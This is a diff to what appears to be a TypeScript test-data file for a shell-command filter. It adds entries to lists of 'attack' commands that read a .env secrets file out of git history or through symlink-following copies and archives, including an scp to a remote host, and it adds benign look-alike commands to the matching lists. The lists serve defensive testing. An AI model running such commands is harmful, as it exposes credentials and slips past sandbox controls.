@@ -345,11 +345,18 @@ export const HISTORY_ATTACKS: readonly string[] = [
   ...['(cd /tmp; cd "$OLDPWD"; git show HEAD:.env)', 'pushd /tmp; git -C "$(dirs -l +1)" log -p'],
   "cd $(mktemp -d) && export GIT_DIR=$OLDPWD/.git && git show HEAD:.env",
   "read -r d < list; cd /tmp; git -C $d show HEAD:.env",
+  ...[
+    "git grep -I '' HEAD",
+    "git log -L :x:.env",
+    "git upload-pack .git < x",
+    "hub show HEAD:.env",
+  ],
+  ...["tig show HEAD", "hub log -p", "git request-pull -p HEAD~1 ."],
 ];
 
 /** Commands that bring out names, messages, or other files. */
 export const HISTORY_EVERYDAY: readonly string[] = [
-  "git rev-list --objects --all",
+  ...["git rev-list --objects --all", "hub status", "git grep '' src", "git request-pull HEAD~1 ."],
   "git rev-list --all",
   "git ls-tree HEAD",
   "git ls-files -s",
@@ -641,6 +648,9 @@ export const EXPOSED_ATTACKS: readonly string[] = [
   ...["yq -p props .env", "yq 'load_str(\".env\")' package.json", 'yq -n \'load(".e" + "nv")\''],
   ...["duckdb -c \"select * from read_text('.env')\"", "sqlite3 x.db <<< '.read .env'"],
   ...["clickhouse local -q \"select * from file('.env')\"", "ed <<< 'r .env'", "bsdtar cf - @.env"],
+  // Below `sub` lies a link to the folder around it.
+  ...["grep -R T sub", "rg -L T sub", "rg --follow T sub", "cp -rL sub x", "tar chf - sub"],
+  ...["tar --dereference -cf - sub", "zip -r - sub", "rsync -aL sub/ x", "scp -r sub h:"],
   ...["echo ../*", "echo /root/.*", "for f in ../*; do echo $f; done", "printf '%s\\n' ../../*"],
   ...["tmux new -d 'cat .env'", "tmux send-keys 'cat .env' Enter", "screen -dm cat .env"],
   ...["at now <<< 'cat .env'", "echo 'cat .env' | at now", "batch <<< 'cat .env'", "crontab jobs"],
@@ -752,6 +762,7 @@ export const EXPOSED_EVERYDAY: readonly string[] = [
   "find . -name '*.js' -not -path './node_modules/*'",
   "find . -name '*.js' | xargs grep -l total",
   ...["jq .env package.json", "yq .name package.json", "echo src/*", "printf '%s\\n' *.md"],
+  ...["grep -r T sub", "cp -r sub x", "tar cf x.tar sub", "rg total sub", "rsync -a sub/ x"],
   ...["tsc -p .", "ruff check .", "mypy .", "sqlite3 x.db <<< 'select 1;'", "bc <<< 1+1"],
 ];
 
